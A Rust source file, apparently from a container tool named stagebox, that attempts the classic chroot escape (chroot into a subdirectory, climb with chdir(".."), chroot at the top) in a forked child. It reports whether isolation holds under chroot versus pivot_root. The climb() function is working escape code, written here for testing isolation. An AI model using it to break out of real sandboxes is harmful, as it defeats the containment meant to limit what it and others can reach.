//! The classic chroot escape, attempted for real and reported: `stagebox probe --escape`.
//!
//! chroot(2) changes a process's root directory and nothing else. The escape needs
//! CAP_SYS_CHROOT and goes like this:
//!
//! 1. mkdir a directory inside the current root, and chroot(2) into it *without* chdir'ing
//!    into it. The working directory is now outside the process's root.
//! 2. chdir("..") many times. ".." is only stopped at the process's root, and the working
//!    directory never passes through that root (it is below it now), so each step climbs,
//!    until the real / of the mount namespace, where ".." is "." again.
//! 3. chroot(".") makes that real / the root.
//!
//! After pivot_root and detaching the old root, step 2 ends at the container's own / (there
//! is nothing above it in the mount namespace): the escape fails. That is the whole
//! difference between `--root-switch chroot` and pivot_root.
//!
//! The attempt runs in a forked child, so the probe itself keeps its root and removes the
//! directory afterwards. Nothing outside is written: the child only looks.

use serde::Serialize;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct EscapeReport {
    /// True when the climb reached a different root than the container's.
    pub escaped: bool,
    /// What the attempt found at the top, in words.
    pub evidence: String,
    /// Entries of the root it reached (the first 12, sorted).
    pub top_entries: Vec<String>,
    /// Whether `marker` (a file the runner placed on the host) was visible from there.
    pub marker_seen: Option<bool>,
}

fn identity(p: &Path) -> Option<(u64, u64)> {
    std::fs::metadata(p).ok().map(|m| (m.dev(), m.ino()))
}

/// Tries the escape in a forked child and reports what it reached.
pub fn attempt(marker: Option<&Path>) -> Result<EscapeReport, String> {
    let own_root = identity(Path::new("/")).ok_or("cannot stat /")?;
    let dir = format!("/.stagebox-escape-{}", std::process::id());
    std::fs::create_dir(&dir)
        .map_err(|e| format!("mkdir {dir}: {e} (the escape needs a writable root)"))?;
    let (r, w) = nix::unistd::pipe().map_err(|e| format!("pipe: {e}"))?;
    // SAFETY: the probe is single-threaded; the child only makes syscalls, writes to the
    // pipe and _exits.
    let result = match unsafe { nix::unistd::fork() } {
        Err(e) => Err(format!("fork: {e}")),
        Ok(nix::unistd::ForkResult::Child) => {
            drop(r);
            let report = climb(&dir, own_root, marker);
            let text = serde_json::to_string(&report).unwrap_or_default();
            let _ = nix::unistd::write(&w, text.as_bytes());
            // SAFETY: end the forked child without running the parent's exit handlers.
            unsafe { libc::_exit(0) }
        }
        Ok(nix::unistd::ForkResult::Parent { child }) => {
            drop(w);
            let mut text = Vec::new();
            let mut f = std::fs::File::from(r);
            let _ = std::io::Read::read_to_end(&mut f, &mut text);
            let _ = nix::sys::wait::waitpid(child, None);
            serde_json::from_slice::<EscapeReportDe>(&text)
                .map(EscapeReport::from)
                .map_err(|e| format!("the escape attempt reported nothing usable: {e}"))
        }
    };
    let _ = std::fs::remove_dir(&dir);
    result
}

#[derive(serde::Deserialize)]
struct EscapeReportDe {
    escaped: bool,
    evidence: String,
    top_entries: Vec<String>,
    marker_seen: Option<bool>,
}

impl From<EscapeReportDe> for EscapeReport {
    fn from(d: EscapeReportDe) -> Self {
        EscapeReport {
            escaped: d.escaped,
            evidence: d.evidence,
            top_entries: d.top_entries,
            marker_seen: d.marker_seen,
        }
    }
}

fn climb(dir: &str, own_root: (u64, u64), marker: Option<&Path>) -> EscapeReport {
    let fail = |what: String| EscapeReport {
        escaped: false,
        evidence: what,
        top_entries: Vec::new(),
        marker_seen: None,
    };
    if let Err(e) = nix::unistd::chroot(dir) {
        return fail(format!(
            "chroot({dir:?}) failed: {e}; without CAP_SYS_CHROOT there is no escape"
        ));
    }
    for _ in 0..256 {
        if nix::unistd::chdir("..").is_err() {
            break;
        }
    }
    if let Err(e) = nix::unistd::chroot(".") {
        return fail(format!("chroot(\".\") at the top failed: {e}"));
    }
    let _ = nix::unistd::chdir("/");
    let reached = identity(Path::new("/"));
    let mut top: Vec<String> = std::fs::read_dir("/")
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    top.sort();
    top.truncate(12);
    let marker_seen = marker.map(|m| m.exists());
    let escaped = reached != Some(own_root) || marker_seen == Some(true);
    let evidence = if escaped && reached == Some(own_root) {
        "nothing to escape: the process's root is already the host's (the host's marker is visible without climbing)".to_string()
    } else if escaped {
        let (d, i) = reached.unwrap_or((0, 0));
        format!(
            "escaped: climbing out of a chroot reached a different / (device:inode {d}:{i}; the container's / is {}:{})",
            own_root.0, own_root.1
        )
    } else {
        "contained: climbing with chdir(\"..\") stopped at the container's own / (nothing is above it in this mount namespace)".to_string()
    };
    EscapeReport {
        escaped,
        evidence,
        top_entries: top,
        marker_seen,
    }
}
